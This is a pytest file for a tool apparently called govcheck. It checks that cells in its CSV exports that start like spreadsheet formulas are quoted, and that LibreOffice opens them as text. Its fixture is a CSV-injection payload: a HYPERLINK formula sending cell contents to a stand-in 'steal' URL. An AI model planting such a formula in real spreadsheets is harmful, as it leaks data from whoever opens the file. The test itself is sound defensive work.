"""Every CSV govcheck writes opens in a spreadsheet as text: no cell of ours is ever run as a formula."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
import yaml

from govcheck.row_output import format_rows, spreadsheet_text
from support import govcheck, open_store

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"点击查看")'


@pytest.mark.parametrize("text", [FORMULA, "+86 913", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_a_cell_that_starts_like_a_formula_is_quoted(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["渭南市人民政府", "http://www.weinan.gov.cn/", "2024-1", "", "a=b", " =1"])
def test_other_cells_are_left_as_they_are(text):
    assert spreadsheet_text(text) == text


def test_lists_and_dates_are_quoted_too_when_they_start_like_a_formula():
    text = format_rows([{"name": FORMULA, "labels": ["=1+1"], "score": -5}], ["name", "labels", "score"], "csv")
    assert list(csv.reader(text.splitlines())) == [["name", "labels", "score"], ["'" + FORMULA, '["=1+1"]', "'-5"]]


def csv_cells_in_a_spreadsheet(tmp_path: Path, path: Path) -> list[list[openpyxl.cell.Cell]]:
    """The CSV as LibreOffice opens it (converted to a workbook, formulas kept as formulas)."""
    if not Path(SOFFICE).exists():
        pytest.fail("LibreOffice (soffice) is missing: scripts/bootstrap.sh installs it")
    profile = (tmp_path / "lo-profile").as_uri()
    result = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx",
         "--outdir", str(tmp_path / "converted"), str(path)],
        capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(tmp_path / "converted" / f"{path.stem}.xlsx").active
    return [list(row) for row in sheet.iter_rows()]


def test_a_hostile_name_stays_text_in_every_csv_the_commands_write(store_location, tmp_path: Path):
    register = tmp_path / "targets.yaml"
    register.write_text(yaml.safe_dump({"网站": [
        {"网站名称": FORMULA, "网址": "http://127.0.0.1:9/", "网站类别": "县级部门网站", "区县": "@澄城县", "主办单位": "-"},
    ]}, allow_unicode=True), encoding="utf-8")
    assert govcheck(store_location, "targets", "import", str(register)).returncode == 0
    open_store(store_location).upsert("verdicts", {"round": "2024-1", "target_key": f"site:{FORMULA}", "name": FORMULA, "verdict": "合格", "labels": "+1"})

    listed, queried = tmp_path / "targets.csv", tmp_path / "verdicts.csv"
    assert govcheck(store_location, "targets", "list", "--format", "csv", "--out", str(listed)).returncode == 0
    assert govcheck(store_location, "query", "--round", "2024-1", "--format", "csv", "--out", str(queried)).returncode == 0

    for path, columns in ((listed, ("name", "district")), (queried, ("name", "labels"))):
        rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
        assert [rows[0][c] for c in columns] == ["'" + FORMULA, "'@澄城县" if path == listed else "'+1"]
        cells = [cell for row in csv_cells_in_a_spreadsheet(tmp_path, path) for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path.name
        assert any(FORMULA in str(cell.value) for cell in cells)
